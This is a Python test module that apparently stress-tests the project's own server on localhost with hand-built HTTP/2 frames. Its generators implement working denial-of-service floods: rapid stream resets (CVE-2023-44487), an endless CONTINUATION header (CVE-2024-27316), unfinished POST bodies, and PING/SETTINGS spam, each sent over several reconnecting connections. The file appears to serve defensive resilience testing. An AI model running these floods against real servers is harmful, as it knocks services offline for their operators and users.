"""A stranger who speaks HTTP/2 by hand, as a program of its own: what it costs us is not measured
in its time.

`python -m tests.doors.http2 ATTACK PORT CERTIFICATE HOST SECONDS` prints how many streams it began.
"""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_CONNECTIONS = 8
_AT_ONCE = 100


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def _pack(method: str, path: str, host: str) -> bytes:
    """Returns the head of a request as HPACK literals that enter no table."""
    names = {2: method, 4: path, 1: host, 6: "https"}
    return b"".join(bytes((index, len(text))) + text.encode() for index, text in names.items())


def reset_at_once(host: str) -> Iterator[bytes]:
    """Begins streams and takes each back before it can be answered (CVE-2023-44487)."""
    head = _pack("GET", "/agent", host)
    for stream in count(1, 2):
        yield _frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, head) + _frame(
            _RST_STREAM, 0, stream, struct.pack(">I", 8)
        )


def never_end_the_head(host: str) -> Iterator[bytes]:
    """Begins one head and continues it for ever (CVE-2024-27316)."""
    yield _frame(_HEADERS, 0, 1, _pack("GET", "/agent", host))
    while True:
        yield _frame(_CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100)


def never_end_the_bodies(host: str) -> Iterator[bytes]:
    """Begins as many posts as it may and more, with a byte of body each."""
    for stream in count(1, 2):
        yield _frame(_HEADERS, _END_HEADERS, stream, _pack("POST", "/agent/sign-in", host))
        yield _frame(_DATA, 0, stream, b"x")


def ping(_host: str) -> Iterator[bytes]:
    while True:
        yield _frame(_PING, 0, 0, b"12345678") + _frame(_SETTINGS, 0, 0)


ATTACKS: dict[str, Callable[[str], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (reset_at_once, never_end_the_head, never_end_the_bodies, ping)
}


def _connect(port: int, certificate: str, host: str) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=certificate)
    context.set_alpn_protocols(["h2"])
    source = ("127.0.0.2", 0) if sys.platform == "linux" else None
    plain = socket.create_connection(("127.0.0.1", port), 20, source)
    connection = context.wrap_socket(plain, server_hostname=host)
    assert connection.selected_alpn_protocol() == "h2"
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
    connection.settimeout(0.01)
    return connection


def _attack(attack: str, port: int, certificate: str, host: str, seconds: float) -> int:
    """Sends as fast as it can on some connections, each begun anew when it is cut."""
    ends, sent = time.monotonic() + seconds, 0
    held: list[tuple[ssl.SSLSocket, Iterator[bytes]]] = []
    while time.monotonic() < ends:
        if len(held) < _CONNECTIONS:
            held.append((_connect(port, certificate, host), ATTACKS[attack](host)))
        for each in list(held):
            connection, frames = each
            try:
                connection.sendall(b"".join(next(frames) for _ in range(_AT_ONCE)))
                sent += _AT_ONCE
                connection.recv(65536)
            except TimeoutError:
                pass
            except OSError:
                held.remove(each)
    return sent


if __name__ == "__main__":
    name, to_port, file, named, long = sys.argv[1:]
    print(_attack(name, int(to_port), file, named, float(long)))
